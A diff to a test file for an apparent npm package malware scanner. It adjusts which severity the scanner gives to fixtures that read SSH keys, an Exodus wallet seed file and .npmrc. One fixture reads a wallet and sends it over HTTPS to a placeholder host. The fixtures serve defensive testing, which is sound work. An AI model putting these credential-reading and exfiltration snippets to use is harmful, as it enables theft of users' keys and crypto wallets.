@@ -95,9 +95,12 @@ test('credential env vars to a hard-coded public IP, and the whole environment, 
   assert.is(find(py, 'exfil_env_dump')?.severity, 'CRITICAL');
 });
 
-test('reading SSH keys or wallets is HIGH, CRITICAL next to network calls; tool config files are LOW', async () => {
+test('reading wallets or browser stores is HIGH, CRITICAL next to network calls; SSH keys and tool config files are LOW', async () => {
+  // SSH clients and cloud SDKs read their own keys: a capability (exfiltration needs a destination rule).
   const read = await npm(npmTgz({ 'package.json': PKG, 'a.js': "const fs = require('fs'), os = require('os');\nconst k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n" }));
-  assert.is(find(read, 'credential_file_read')?.severity, 'HIGH');
+  assert.is(find(read, 'tool_credential_file')?.severity, 'LOW');
+  const wallet = await npm(npmTgz({ 'package.json': PKG, 'a.js': "const fs = require('fs'), os = require('os');\nconst k = fs.readFileSync(os.homedir() + '/.config/Exodus/exodus.wallet/seed.seco');\n" }));
+  assert.is(find(wallet, 'credential_file_read')?.severity, 'HIGH');
   const send = await npm(npmTgz({ 'package.json': PKG, 'a.js': "const fs = require('fs');\nconst w = fs.readFileSync(process.env.HOME + '/.config/Exodus/exodus.wallet/seed.seco');\nrequire('https').request({ host: 'h' }).end(w);\nconst x = '/Exodus/';\n" }));
   assert.is(find(send, 'exfil_credential_file')?.severity, 'CRITICAL');
   const npmrc = await npm(npmTgz({ 'package.json': PKG, 'a.js': "const fs = require('fs');\nconst rc = fs.readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8');\n" }));
@@ -248,7 +251,7 @@ test('hard-coded secrets are MEDIUM and redacted; AWS example keys are ignored; 
     npmTgz({
       'package.json': PKG,
       'config.js': `module.exports = { gh: '${key}', aws: 'AKIAIOSFODNN7EXAMPLE', real: 'AKIA${'Q'.repeat(16)}' };`,
-      'test/fixtures/key.js': "module.exports = `-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----`;",
+      'test/fixtures/key.js': "module.exports = `-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n-----END RSA PRIVATE KEY-----`;",
     }),
   );
   const secrets = a.findings.filter((f) => f.ruleId === 'hardcoded_secret');
